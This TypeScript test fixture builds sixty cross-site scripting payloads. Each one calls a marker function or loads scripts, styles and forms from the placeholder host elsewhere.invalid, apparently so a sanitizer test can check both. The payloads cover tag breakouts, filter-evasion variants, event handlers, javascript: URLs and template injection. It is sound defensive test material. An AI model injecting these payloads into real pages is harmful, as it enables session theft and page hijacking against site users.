/**
 * Sixty texts that run a script where a page takes them for more than text. What they run is `ran(number)`, and what
 * they fetch lies at `elsewhere.invalid`, so that a test sees both.
 */

/** The host that some of them ask. */
export const elsewhere = 'elsewhere.invalid';

const made: readonly ((run: string) => string)[] = [
  // Elements that run what they hold or fetch.
  (run) => `<script>${run}</script>`,
  (run) => `"><script>${run}</script>`,
  (run) => `'><script>${run}</script>`,
  (run) => `</title><script>${run}</script>`,
  (run) => `</textarea><script>${run}</script>`,
  (run) => `</style><script>${run}</script>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `--><script>${run}</script>`,
  (run) => `]]><script>${run}</script>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<SCRIPT/x>${run}</SCRIPT >`,
  () => `<script src=//${elsewhere}/a.js></script>`,
  () => `<script type=module>import 'http://${elsewhere}/b.js'</script>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<math><mtext><script>${run}</script></mtext></math>`,
  // Handlers.
  (run) => `<img src=x onerror=${run}>`,
  (run) => `"><img src=x onerror="${run}">`,
  (run) => `<img src=x:x onerror=${run} `,
  (run) => `<IMG """><IMG SRC=x onerror=${run}>`,
  (run) => `<img src=http://${elsewhere}/c.png onload=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg/onload=${run}//`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><set attributeName=onmouseover to=${run}>`,
  (run) => `<body onload=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}>`,
  (run) => `<marquee onstart=${run}>`,
  (run) => `<div onpointerover=${run} style=position:fixed;inset:0>x</div>`,
  (run) => `<div tabindex=0 onfocusin=${run}>x</div>`,
  (run) => `<p onanimationstart=${run} style=animation:x>x`,
  (run) => `x" onmouseover="${run}" y="`,
  (run) => `x' onmouseover='${run}' y='`,
  (run) => `x onmouseover=${run} y=`,
  // Addresses.
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => ` javascript:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `javascript://example.org/%0a${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `<a href=javascript:${run}>x</a>`,
  (run) => `[x](javascript:${run})`,
  (run) => `<iframe src=javascript:${run}></iframe>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<object data=javascript:${run}></object>`,
  (run) => `<embed src=javascript:${run}>`,
  (run) => `<form action=javascript:${run}><input type=submit autofocus></form>`,
  () => `<form action=http://${elsewhere}/d method=post><button autofocus>x</button></form>`,
  () => `<meta http-equiv=refresh content="0;url=http://${elsewhere}/e">`,
  () => `<base href=http://${elsewhere}/>`,
  () => `<link rel=stylesheet href=http://${elsewhere}/f.css>`,
  () => `<style>@import 'http://${elsewhere}/g.css';</style>`,
  () => `<style>*{background:url(http://${elsewhere}/h.png)}</style>`,
  // What templates and their compilers take for code.
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
  (run) => `{@html '<img src=x onerror=${run}>'}`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
];

/** Each with a number of its own, from 1. */
export const scripts: readonly string[] = made.map((make, i) => make(`ran(${String(i + 1)})`));
